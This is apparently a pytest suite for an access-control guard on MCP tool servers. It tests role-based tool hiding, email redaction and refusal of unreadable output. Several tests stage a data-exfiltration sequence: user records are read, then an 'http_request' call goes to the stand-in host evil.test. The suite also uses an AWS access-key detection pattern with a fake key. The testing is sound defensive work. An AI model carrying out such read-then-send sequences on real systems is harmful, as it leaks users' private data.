"""d2.agents.mcp against the real MCP SDK: an in-process client talks to the server
over the SDK's in-memory transport (``Client(server, mode="legacy")``: the
initialize handshake, JSON-RPC framing, one session) or its direct per-request
path (``mode="2026-07-28"``). The access token reaches the server the way the
SDK's bearer-auth middleware puts it there: in ``auth_context_var``."""

from __future__ import annotations

import json
from collections.abc import Hashable
from typing import Any

import pytest
from d2.agents.mcp import MCPGuard, guard_server
from d2.core import ConfigurationError, get_user_context, set_user
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mcp import Client, types
from mcp.server.auth.middleware.auth_context import auth_context_var, get_access_token
from mcp.server.auth.middleware.bearer_auth import AuthenticatedUser
from mcp.server.auth.provider import AccessToken
from mcp.server.context import ServerRequestContext
from mcp.server.lowlevel import Server
from mcp.server.mcpserver import MCPServer

ANALYST_TOOLS = ["http_request", "read_users", "web_search"]


def act_as(subject: str | None, *roles: str, session: str | None = None) -> None:
    """Authenticate the next requests as ``subject`` (``None``: no token)."""
    if subject is None:
        auth_context_var.set(None)
        return
    claims = {"roles": list(roles), "sid": session}
    token = AccessToken(
        token=f"token-{subject}", client_id="agent", scopes=[], subject=subject, claims=claims
    )
    auth_context_var.set(AuthenticatedUser(token))


def identify(token: AccessToken | None) -> tuple[str, list[str]] | None:
    """The mapping an app writes: subject is the user, the roles claim its roles."""
    if token is None or token.subject is None:
        return None
    return token.subject, (token.claims or {}).get("roles", [])


def text(result: types.CallToolResult) -> str:
    return " ".join(c.text for c in result.content if isinstance(c, types.TextContent))


def build_server(users: list[dict[str, str]]) -> MCPServer:
    server = MCPServer("crm")

    @server.tool()
    def web_search(query: str) -> str:
        """Search the web."""
        return f"results for {query!r} (as {get_user_context().user_id})"

    @server.tool()
    def read_users(limit: int = 10) -> list[dict[str, str]]:
        """Read user records."""
        return users[:limit]

    @server.tool()
    async def http_request(url: str, body: str = "") -> str:
        """Send an HTTP request."""
        return f"POST {url} ({len(body)} bytes)"

    return server


@pytest.fixture
def server(configure: Any, tool_ids: dict[str, str], users: list[dict[str, str]]) -> MCPServer:
    configure()
    server = build_server(users)
    guard_server(server, identify=identify, tool_ids=tool_ids)
    return server


async def listed(client: Client) -> list[str]:
    return sorted(t.name for t in (await client.list_tools()).tools)


async def test_tools_list_shows_each_user_exactly_the_tools_they_may_call(
    server: MCPServer,
) -> None:
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        assert await listed(client) == ANALYST_TOOLS
        act_as("victor", "viewer")
        assert await listed(client) == ["web_search"]
        act_as("nobody")  # authenticated, no role
        assert await listed(client) == []
        act_as(None)  # unauthenticated: no user
        assert await listed(client) == []


async def test_a_forbidden_call_is_an_mcp_tool_error_and_the_session_goes_on(
    server: MCPServer,
) -> None:
    async with Client(server, mode="legacy") as client:
        act_as("victor", "viewer")
        refused = await client.call_tool("read_users", {"limit": 1})
        assert refused.is_error
        assert text(refused) == "Unknown tool: read_users"  # as if it did not exist
        assert "ada@example.com" not in text(refused)
        # the session is intact: the next call works
        ok = await client.call_tool("web_search", {"query": "pricing"})
        assert not ok.is_error and "as victor" in text(ok)
        act_as(None)
        anonymous = await client.call_tool("web_search", {"query": "x"})
        assert anonymous.is_error and text(anonymous) == "Unknown tool: web_search"


@pytest.mark.parametrize("mode", ["legacy", "2026-07-28"])
async def test_a_hidden_tool_cannot_be_told_from_a_missing_one(
    configure: Any, tool_ids: dict[str, str], users: list[dict[str, str]], mode: Any
) -> None:
    # The SDK validates a call's arguments (and runs resolvers) before the tool's
    # function; a hidden tool must be refused before that, exactly like a missing one.
    configure()
    server = build_server(users)
    ran: list[str] = []

    @server.tool()
    def export_users(destination: str, include_emails: bool) -> str:
        """Granted to no role."""
        ran.append("export_users")
        return "exported"

    guard_server(server, identify=identify, tool_ids=tool_ids)
    async with Client(server, mode=mode) as client:
        act_as("victor", "viewer")

        async def answer(name: str, arguments: dict[str, Any]) -> dict[str, Any]:
            result = await client.call_tool(name, arguments)
            assert result.is_error
            dumped = result.model_dump(exclude={"meta"})
            text_ = dumped["content"][0]["text"]
            assert text_ == f"Unknown tool: {name}"
            dumped["content"][0]["text"] = text_.replace(name, "<name>")
            return dumped

        missing = await answer("no_such_tool", {})
        assert await answer("read_users", {"limit": 1}) == missing  # granted to others
        assert await answer("read_users", {"limit": "not a number"}) == missing
        assert await answer("http_request", {}) == missing  # a required argument absent
        assert await answer("export_users", {"destination": 3}) == missing  # granted to none
        assert await answer("export_users", {"destination": "x", "include_emails": True}) == (
            missing
        )
        act_as(None)  # no user at all: the same answer
        assert await answer("web_search", {"query": ["wrong", "type"]}) == missing
        act_as("alice", "analyst")  # a granted tool still reports bad arguments
        bad = await client.call_tool("read_users", {"limit": "not a number"})
        assert bad.is_error and "limit" in text(bad) and "Unknown tool" not in text(bad)
    assert ran == []


async def test_input_and_output_rules_bind_to_the_tool_function(server: MCPServer) -> None:
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        too_many = await client.call_tool("read_users", {"limit": 500})
        assert too_many.is_error
        assert "input_validation" in text(too_many) and "'limit'" in text(too_many)
        ok = await client.call_tool("read_users", {"limit": 2})
        assert not ok.is_error
        assert ok.structured_content == {
            "result": [
                {"name": "Ada", "email": "[REDACTED]"},
                {"name": "Grace", "email": "[REDACTED]"},
            ]
        }
        assert "example.com" not in text(ok)


async def test_a_sequence_rule_stops_exfiltration_across_the_calls_of_a_session(
    server: MCPServer,
) -> None:
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        assert not (
            await client.call_tool("http_request", {"url": "https://partner.test"})
        ).is_error
        assert not (await client.call_tool("read_users", {"limit": 1})).is_error
        exfil = await client.call_tool("http_request", {"url": "https://evil.test", "body": "u"})
        assert exfil.is_error
        assert "sequence_violation" in text(exfil) and "exfiltration" in text(exfil)
        assert not (await client.call_tool("web_search", {"query": "weather"})).is_error
        # another user on the same connection starts a scope of their own
        act_as("bob", "analyst")
        assert not (await client.call_tool("http_request", {"url": "https://x.test"})).is_error
    async with Client(server, mode="legacy") as client:  # a new session, a new history
        act_as("alice", "analyst")
        assert not (await client.call_tool("http_request", {"url": "https://x.test"})).is_error


async def test_the_user_is_set_from_each_request_and_cleared_after_it(
    server: MCPServer,
) -> None:
    # A D2 user set on the client side travels with the in-memory messages; the
    # guard must replace it with the request's own user, never inherit it.
    set_user("mallory", roles=["analyst"])
    async with Client(server, mode="legacy") as client:
        act_as(None)
        assert await listed(client) == []
        refused = await client.call_tool("web_search", {"query": "x"})
        assert refused.is_error and text(refused) == "Unknown tool: web_search"
        act_as("alice", "analyst")
        assert "as alice" in text(await client.call_tool("web_search", {"query": "x"}))
        act_as("victor", "viewer")
        assert "as victor" in text(await client.call_tool("web_search", {"query": "x"}))
    assert get_user_context().user_id == "mallory"  # the caller's own context is untouched


async def test_tools_registered_after_guard_server_are_guarded_on_first_call(
    server: MCPServer,
) -> None:
    @server.tool()
    def drop_tables() -> str:
        """Not in the policy."""
        return "dropped"

    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        assert "drop_tables" not in await listed(client)
        refused = await client.call_tool("drop_tables", {})
        assert refused.is_error and text(refused) == "Unknown tool: drop_tables"


async def test_a_session_key_carries_the_history_across_stateless_requests(
    configure: Any, tool_ids: dict[str, str], users: list[dict[str, str]]
) -> None:
    configure()
    server = build_server(users)

    def by_token_session(ctx: ServerRequestContext[Any, Any]) -> Hashable | None:
        token = get_access_token()
        return None if token is None else (token.subject, (token.claims or {}).get("sid"))

    guard_server(server, identify=identify, tool_ids=tool_ids, session_key=by_token_session)
    async with Client(server, mode="2026-07-28") as client:  # every request is a connection
        act_as("alice", "analyst", session="s1")
        assert await listed(client) == ANALYST_TOOLS
        assert not (await client.call_tool("read_users", {"limit": 1})).is_error
        exfil = await client.call_tool("http_request", {"url": "https://evil.test"})
        assert exfil.is_error and "sequence_violation" in text(exfil)
        act_as("alice", "analyst", session="s2")  # another session of the same user
        assert not (await client.call_tool("http_request", {"url": "https://x.test"})).is_error


def lowlevel_server(users: list[dict[str, str]]) -> Server[Any]:
    """A low-level server: its handlers list and dispatch the tools themselves."""
    schema = {"type": "object", "properties": {"limit": {"type": "integer"}}}
    listing = [
        types.Tool(name="web.search", input_schema={"type": "object"}),
        types.Tool(name="db.read_users", input_schema=schema),
        types.Tool(name="http.request", input_schema={"type": "object"}),
    ]

    async def on_list_tools(
        ctx: ServerRequestContext[Any, Any], params: types.PaginatedRequestParams | None
    ) -> types.ListToolsResult:
        return types.ListToolsResult(tools=listing)

    async def on_call_tool(
        ctx: ServerRequestContext[Any, Any], params: types.CallToolRequestParams
    ) -> types.CallToolResult:
        arguments = params.arguments or {}
        if params.name == "db.read_users":
            found = users[: arguments.get("limit", 10)]
            return types.CallToolResult(
                content=[types.TextContent(type="text", text=json.dumps(found))],
                structured_content={"users": found},
            )
        return types.CallToolResult(content=[types.TextContent(type="text", text="ok")])

    return Server("lowlevel", on_list_tools=on_list_tools, on_call_tool=on_call_tool)


async def test_a_low_level_server_is_guarded_through_its_handlers(
    configure: Any, users: list[dict[str, str]]
) -> None:
    configure()
    server = lowlevel_server(users)
    guard_server(server, identify=identify)  # tool names are the policy's ids
    async with Client(server, mode="legacy") as client:
        act_as("victor", "viewer")
        assert await listed(client) == ["web.search"]
        refused = await client.call_tool("db.read_users", {"limit": 1})
        assert refused.is_error and text(refused) == "Unknown tool: db.read_users"
        act_as("alice", "analyst")
        assert await listed(client) == ["db.read_users", "http.request", "web.search"]
        too_many = await client.call_tool("db.read_users", {"limit": 500})
        assert too_many.is_error and "input_validation" in text(too_many)
        read = await client.call_tool("db.read_users", {"limit": 1})
        assert not read.is_error
        exfil = await client.call_tool("http.request", {"url": "https://evil.test"})
        assert exfil.is_error and "sequence_violation" in text(exfil)


def lowlevel_reader(result: Any) -> Server[Any]:
    """A low-level server whose only tool, ``db.read_users``, returns ``result``
    (a function of the call's arguments)."""

    async def on_list_tools(
        ctx: ServerRequestContext[Any, Any], params: types.PaginatedRequestParams | None
    ) -> types.ListToolsResult:
        return types.ListToolsResult(
            tools=[types.Tool(name="db.read_users", input_schema={"type": "object"})]
        )

    async def on_call_tool(
        ctx: ServerRequestContext[Any, Any], params: types.CallToolRequestParams
    ) -> Any:
        return result(params.arguments or {})

    return Server("lowlevel", on_list_tools=on_list_tools, on_call_tool=on_call_tool)


def reader_policy(
    doc: dict[str, Any], output: dict[str, Any], limit: dict[str, Any] | None = None
) -> dict[str, Any]:
    """``doc`` (the agents policy) with ``db.read_users``'s conditions replaced."""
    grant = doc["policies"][0]["permissions"][1]
    grant["conditions"] = {"input": {"limit": limit or {"type": "int", "max": 50}}}
    grant["conditions"]["output"] = output
    return doc


async def test_a_low_level_server_applies_output_rules_to_structured_and_text_content(
    configure: Any, users: list[dict[str, str]], policy_doc: dict[str, Any]
) -> None:
    configure(reader_policy(policy_doc, {"users.email": {"action": "redact"}}))

    def read(arguments: dict[str, Any]) -> types.CallToolResult:
        found = {"users": users[: arguments.get("limit", 10)]}
        return types.CallToolResult(  # the MCP convention: the text is the JSON
            content=[types.TextContent(type="text", text=json.dumps(found))],
            structured_content=found,
        )

    server = lowlevel_reader(read)
    guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        result = await client.call_tool("db.read_users", {"limit": 2})
    assert not result.is_error
    redacted = {
        "users": [
            {"name": "Ada", "email": "[REDACTED]"},
            {"name": "Grace", "email": "[REDACTED]"},
        ]
    }
    assert result.structured_content == redacted
    assert json.loads(text(result)) == redacted
    assert "example.com" not in result.model_dump_json()


async def test_a_low_level_server_applies_output_rules_to_each_json_text_block(
    configure: Any, users: list[dict[str, str]]
) -> None:
    configure()  # the agents policy: "email" redacted wherever the result holds it

    def read(arguments: dict[str, Any]) -> types.CallToolResult:
        return types.CallToolResult(
            content=[
                types.TextContent(type="text", text=json.dumps(users)),  # a list
                types.TextContent(type="text", text=json.dumps(users[0])),  # an object
            ],
            structured_content={"email": "ops@example.com", "count": 2},  # not mirrored
        )

    server = lowlevel_reader(read)
    guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        result = await client.call_tool("db.read_users", {"limit": 2})
    assert not result.is_error
    assert "example.com" not in result.model_dump_json()
    assert result.structured_content == {"email": "[REDACTED]", "count": 2}
    blocks = [c.text for c in result.content if isinstance(c, types.TextContent)]
    assert json.loads(blocks[0])[1] == {"name": "Grace", "email": "[REDACTED]"}
    assert json.loads(blocks[1]) == {"name": "Ada", "email": "[REDACTED]"}


@pytest.mark.parametrize(
    "shape",
    [
        "2 users found: ops@example.com",  # plain text
        '```json\n{"email": "ops@example.com"}\n```',  # a code fence
        '{"email": "ops@example.com"}\n{"email": "ops@example.com"}',  # NDJSON
        json.dumps(json.dumps({"email": "ops@example.com"})),  # JSON in a JSON string
    ],
    ids=["plain", "fenced", "ndjson", "double-encoded"],
)
async def test_low_level_text_field_rules_cannot_read_is_refused_under_them(
    configure: Any, policy_doc: dict[str, Any], shape: str
) -> None:
    # A field rule finds no field in text that is not one JSON object or array: the
    # result is refused instead of passing unread.
    configure(reader_policy(policy_doc, {"email": {"action": "redact"}}))
    sent = types.CallToolResult(content=[types.TextContent(type="text", text=shape)])
    server = lowlevel_reader(lambda arguments: sent)
    guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        result = await client.call_tool("db.read_users", {"limit": 1})
    assert result.is_error and "output_validation" in text(result)
    assert "example.com" not in result.model_dump_json()


async def test_low_level_plain_text_is_read_whole_by_patterns_and_size(
    configure: Any, policy_doc: dict[str, Any]
) -> None:
    rules = {"deny_if_patterns": ["AKIA[0-9A-Z]{16}"], "max_bytes": 100}
    configure(reader_policy(policy_doc, rules))
    answers = {
        1: "2 users found",
        2: f"key {SECRET}",
        3: '"' + SECRET.replace("A", "\\u0041") + '"',  # a JSON string of escapes
        4: "x" * 200,
    }

    def read(arguments: dict[str, Any]) -> types.CallToolResult:
        return types.CallToolResult(
            content=[types.TextContent(type="text", text=answers[arguments["limit"]])]
        )

    server = lowlevel_reader(read)
    guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        results = [await client.call_tool("db.read_users", {"limit": n}) for n in answers]
    assert not results[0].is_error and text(results[0]) == "2 users found"
    for refused in results[1:]:
        assert refused.is_error and "output_validation" in text(refused)


async def test_low_level_content_the_output_rules_cannot_read_is_refused_under_them(
    configure: Any, users: list[dict[str, str]]
) -> None:
    configure()
    image = types.ImageContent(type="image", data="aGVsbG8=", mime_type="image/png")

    def read(arguments: dict[str, Any]) -> types.CallToolResult:
        return types.CallToolResult(
            content=[types.TextContent(type="text", text=json.dumps(users)), image]
        )

    server = lowlevel_reader(read)
    guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        refused = await client.call_tool("db.read_users", {"limit": 1})
        assert refused.is_error and "output_validation" in text(refused)
        assert "example.com" not in refused.model_dump_json()


async def test_a_low_level_result_no_rule_changes_is_passed_as_it_is(
    configure: Any, users: list[dict[str, str]], policy_doc: dict[str, Any]
) -> None:
    configure(reader_policy(policy_doc, {"users.email": {"action": "redact"}}))
    sent = types.CallToolResult(
        content=[types.TextContent(type="text", text='{"count": 2}')],
        structured_content={"count": 2},
    )

    server = lowlevel_reader(lambda arguments: sent)
    guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        result = await client.call_tool("db.read_users", {"limit": 1})
    assert not result.is_error
    assert result.structured_content == {"count": 2} and text(result) == '{"count": 2}'


SECRET = "AKIAABCDEFGHIJKLMNOP"


@pytest.mark.parametrize(
    "output",
    [
        {"deny_if_patterns": ["AKIA[0-9A-Z]{16}"]},
        {"notes": {"matches": "AKIA", "action": "deny"}},
        {"max_bytes": 10_000},
    ],
    ids=["deny_if_patterns", "field-deny", "max_bytes"],
)
@pytest.mark.parametrize("mirrored", [False, True], ids=["text", "mirror-of-structured"])
async def test_low_level_json_text_with_a_duplicate_key_is_refused_under_output_rules(
    configure: Any, policy_doc: dict[str, Any], output: dict[str, Any], mirrored: bool
) -> None:
    # json.loads keeps the last duplicate; a client's parser may keep the first:
    # the rules would check one value and the model read another.
    configure(reader_policy(policy_doc, output))
    sent = types.CallToolResult(
        content=[types.TextContent(type="text", text=f'{{"notes": "{SECRET}", "notes": "ok"}}')],
        structured_content={"notes": "ok"} if mirrored else None,
    )
    server = lowlevel_reader(lambda arguments: sent)
    guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        result = await client.call_tool("db.read_users", {"limit": 1})
    assert result.is_error and "output_validation" in text(result)
    assert SECRET not in result.model_dump_json()


async def test_low_level_json_text_goes_out_as_the_value_the_rules_checked(
    configure: Any, policy_doc: dict[str, Any]
) -> None:
    # Padding around a small JSON value: max_bytes reads the value, so the client
    # must get the value re-written, never the upstream's bytes.
    configure(reader_policy(policy_doc, {"max_bytes": 100}))
    padded = '{"count": 2}' + " " * 5000
    sent = types.CallToolResult(
        content=[types.TextContent(type="text", text=padded)] * 2,
        structured_content={"count": 2},
    )
    server = lowlevel_reader(lambda arguments: sent)
    guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        result = await client.call_tool("db.read_users", {"limit": 1})
    assert not result.is_error
    assert [c.text for c in result.content if isinstance(c, types.TextContent)] == [
        '{"count": 2}',
        '{"count": 2}',
    ]


async def test_low_level_text_without_output_rules_is_passed_byte_for_byte(
    configure: Any, policy_doc: dict[str, Any]
) -> None:
    configure()
    padded = '{"count": 2,   "count": 3}  '
    sent = types.CallToolResult(content=[types.TextContent(type="text", text=padded)])
    server = lowlevel_reader(lambda arguments: sent)
    guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        result = await client.call_tool("web.search", {"query": "x"})
    assert not result.is_error and text(result) == padded


async def test_low_level_input_rules_see_only_the_arguments_sent_so_require_them(
    configure: Any, users: list[dict[str, str]], policy_doc: dict[str, Any]
) -> None:
    # No signature, so the handler's own default is invisible: `required` closes it.
    configure(reader_policy(policy_doc, {}, limit={"type": "int", "max": 50, "required": True}))

    def read(arguments: dict[str, Any]) -> types.CallToolResult:
        found = users[: arguments.get("limit", 1000)]
        return types.CallToolResult(content=[types.TextContent(type="text", text=str(found))])

    server = lowlevel_reader(read)
    guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        missing = await client.call_tool("db.read_users", {})
        assert missing.is_error and "input_validation" in text(missing)
        assert not (await client.call_tool("db.read_users", {"limit": 1})).is_error


async def test_the_low_level_gates_are_bounded_under_a_wildcard_policy(
    configure: Any, monkeypatch: pytest.MonkeyPatch, policy_doc: dict[str, Any]
) -> None:
    import d2.agents.mcp as adapter

    monkeypatch.setattr(adapter, "_GATES", 8)
    doc = policy_doc
    doc["policies"][0]["permissions"].append("scratch.*")
    configure(doc)

    async def on_call_tool(
        ctx: ServerRequestContext[Any, Any], params: types.CallToolRequestParams
    ) -> types.CallToolResult:
        return types.CallToolResult(content=[types.TextContent(type="text", text="ok")])

    async def on_list_tools(
        ctx: ServerRequestContext[Any, Any], params: types.PaginatedRequestParams | None
    ) -> types.ListToolsResult:
        return types.ListToolsResult(tools=[])

    server: Server[Any] = Server("lowlevel", on_list_tools=on_list_tools, on_call_tool=on_call_tool)
    guard = guard_server(server, identify=identify)
    async with Client(server, mode="legacy") as client:
        act_as("alice", "analyst")
        for n in range(30):
            assert not (await client.call_tool(f"scratch.t{n}", {})).is_error
        assert not (await client.call_tool("scratch.t29", {})).is_error
    assert len(guard._gates) == 8
    assert "scratch.t29" in guard._gates and "scratch.t0" not in guard._gates


def test_guarding_twice_or_guarding_something_else_is_a_configuration_error(
    server: MCPServer,
) -> None:
    with pytest.raises(ConfigurationError, match="already guarded"):
        guard_server(server, identify=identify)
    with pytest.raises(ConfigurationError, match="MCPServer or a Server"):
        guard_server(object(), identify=identify)  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError, match="identify"):
        MCPGuard(identify="alice")  # type: ignore[arg-type]
    assert sum(isinstance(m, MCPGuard) for m in server.middleware) == 1


def test_a_low_level_server_without_a_call_handler_is_refused() -> None:
    with pytest.raises(ConfigurationError, match="tools/call"):
        guard_server(Server("empty"), identify=identify)


ADDRESS = "ops@example.com"
_record = st.fixed_dictionaries({"email": st.just(ADDRESS)}, optional={"name": st.text()})
_tree = st.one_of(_record, st.lists(_record, max_size=3))


def _shapes(draw: Any) -> list[str]:
    tree = draw(_tree)
    indent = draw(st.sampled_from([None, 0, 2]))
    doc = json.dumps(tree, indent=indent)
    shape = draw(st.sampled_from(["json", "fence", "ndjson", "double", "dup", "split", "pad"]))
    if shape == "fence":
        return [f"```json\n{doc}\n```"]
    if shape == "ndjson":
        return [doc.replace("\n", "") + "\n" + doc.replace("\n", "")]
    if shape == "double":
        return [json.dumps(doc)]
    if shape == "dup":
        return [f'{{"email": "{ADDRESS}", "email": "[REDACTED]"}}']
    if shape == "split":
        cut = draw(st.integers(1, max(1, len(doc) - 1)))
        return [doc[:cut], doc[cut:]]
    if shape == "pad":
        return [" " * draw(st.integers(0, 50)) + doc + "\n"]
    return [doc]


@pytest.fixture
def redacting(configure: Any) -> None:
    configure()  # the agents policy: db.read_users redacts "email"


@settings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(data=st.data())
def test_low_level_text_never_carries_a_field_a_field_rule_removes(
    redacting: None, data: Any
) -> None:
    # Whatever shape the text takes, "email: redact" either rewrites it or the
    # result is refused: the address never goes out.
    from d2.agents.mcp import _Readable
    from d2.core import PermissionDeniedError, d2_guard

    texts = _shapes(data.draw)
    sent = types.CallToolResult(content=[types.TextContent(type="text", text=t) for t in texts])
    readable = _Readable(sent)

    @d2_guard("db.read_users")
    def read(limit: int) -> Any:
        return readable.view

    set_user("alice", ["analyst"])
    try:
        out = readable.rebuilt(read(limit=1), True)
    except PermissionDeniedError as err:
        assert err.reason == "output_validation"
        return
    assert ADDRESS not in out.model_dump_json()
